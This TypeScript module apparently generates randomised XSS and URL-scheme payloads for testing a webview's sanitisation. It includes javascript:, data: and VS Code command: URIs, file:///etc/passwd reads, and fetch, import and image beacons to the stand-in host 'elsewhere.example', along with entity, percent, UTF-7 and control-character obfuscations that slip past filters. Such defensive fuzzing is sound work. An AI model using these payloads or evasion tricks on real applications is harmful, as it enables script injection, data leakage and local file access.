// What a payload would do if it could, and how it hides that.
import type { Random } from "./random.ts";

/** No such host exists; whoever asks for it is noticed before a name is looked up. */
export const elsewhere = "elsewhere.example";

/** The function by which a script that runs tells that it does. */
export const alarm = "hostileRan";

/** Icons of this name are none of ours. */
export const foreignIcon = "skull";

export function script(random: Random, number: number): string {
  return random.one([
    `${alarm}(${number})`,
    `window.${alarm}(${number})`,
    `top["hostile"+"Ran"](${number})`,
    `self[atob("aG9zdGlsZVJhbg==")](${number})`,
    `alert(${number})`,
    `fetch("https://${elsewhere}/${number}")`,
    `import("https://${elsewhere}/${number}.js")`,
    `location="https://${elsewhere}/${number}"`,
    `open("https://${elsewhere}/${number}")`,
    `new Image().src="https://${elsewhere}/${number}.png"`,
    `acquireVsCodeApi().postMessage({kind:"call",id:${number},method:"openAddress",params:{address:"command:x"}})`,
  ]);
}

const entitiesOf: readonly ((character: string) => string)[] = [
  (character) => `&#${character.codePointAt(0)};`,
  (character) => `&#x${character.codePointAt(0)?.toString(16)};`,
  (character) => `&#0000${character.codePointAt(0)};`,
  (character) => `&#X${character.codePointAt(0)?.toString(16).toUpperCase()};`,
];

function asEntities(random: Random, text: string): string {
  const encode = random.one(entitiesOf);
  return Array.from(text).map(encode).join("");
}

/** Upper and lower case as it comes. */
export function anyCase(random: Random, text: string): string {
  return Array.from(text)
    .map((each) => (random.is(0.5) ? each.toUpperCase() : each.toLowerCase()))
    .join("");
}

/** Halves of characters have no such form. */
function percentEncoded(text: string): string {
  return encodeURIComponent(text.replaceAll(/\p{Surrogate}/gu, ""));
}

type Encoding = (random: Random, text: string) => string;

export const encodings: readonly Encoding[] = [
  (_, text) => text,
  (_, text) => text,
  asEntities,
  (_, text) => percentEncoded(text),
  (_, text) => percentEncoded(percentEncoded(text)),
  (_, text) => text.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
  (_, text) => text.replaceAll("<", String.raw`\u003c`).replaceAll(">", String.raw`\u003e`),
  (_, text) => text.replaceAll("<", "\uff1c").replaceAll(">", "\uff1e"),
  (_, text) => Array.from(text).join("\0"),
  (_, text) => `+ADw-${text}+AD4-`,
];

const remote = (number: number): string => `https://${elsewhere}/${number}`;

/** Addresses that act, or that lead away. */
export function address(random: Random, number: number): string {
  const code = script(random, number);
  const plain = random.one<() => string>([
    () => `javascript:${code}`,
    () => `javascript://%0a${code}`,
    () => `vbscript:${code}`,
    () => `data:text/html,<script>${code}</script>`,
    () => `data:text/html;base64,${Buffer.from(`<script>${code}</script>`).toString("base64")}`,
    () => `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${code}"/>`,
    () => "command:workbench.action.quit",
    () => `command:artifacts.openInBrowser?${encodeURIComponent(`[{"page":"${remote(number)}"}]`)}`,
    () => "vscode://file/etc/passwd",
    () => "vscode-insiders://artifacts/x",
    () => "file:///etc/passwd",
    () => `file://${elsewhere}/share/${number}`,
    () => `blob:${remote(number)}`,
    () => `view-source:${remote(number)}`,
    () => `ws://${elsewhere}/${number}`,
    () => `ftp://${elsewhere}/${number}`,
    () => remote(number),
    () => `//${elsewhere}/${number}`,
    () => String.raw`\\${elsewhere}\${number}`,
    () => `/\\${elsewhere}/${number}`,
    () => `https:${elsewhere}/${number}`,
    () => `https://127.0.0.1@${elsewhere}/${number}`,
  ])();
  return disguised(random, plain);
}

/** Browsers skip some characters in front of and within a scheme. */
function disguised(random: Random, plain: string): string {
  const colon = plain.indexOf(":");
  if (colon < 0 || random.is(0.4)) return plain;
  const [scheme, rest] = [plain.slice(0, colon), plain.slice(colon + 1)];
  const cut = 1 + random.below(Math.max(1, scheme.length - 1));
  const [head, tail] = [scheme.slice(0, cut), scheme.slice(cut)];
  return random.one<() => string>([
    () => `${anyCase(random, scheme)}:${rest}`,
    () => `${random.one([" ", "\t", "\n", "\u0001", "\u00a0", "\ufeff", "\u2028"])}${plain}`,
    () => `${head}${random.one(["\n", "\t", "\r", "&#10;", "&Tab;", "&NewLine;"])}${tail}:${rest}`,
    () => `${scheme}${random.one(["&colon;", "&#58;", "&#x3a", "%3a"])}${rest}`,
    () => `${asEntities(random, scheme)}:${rest}`,
    () => `${scheme} :${rest}`,
  ])();
}
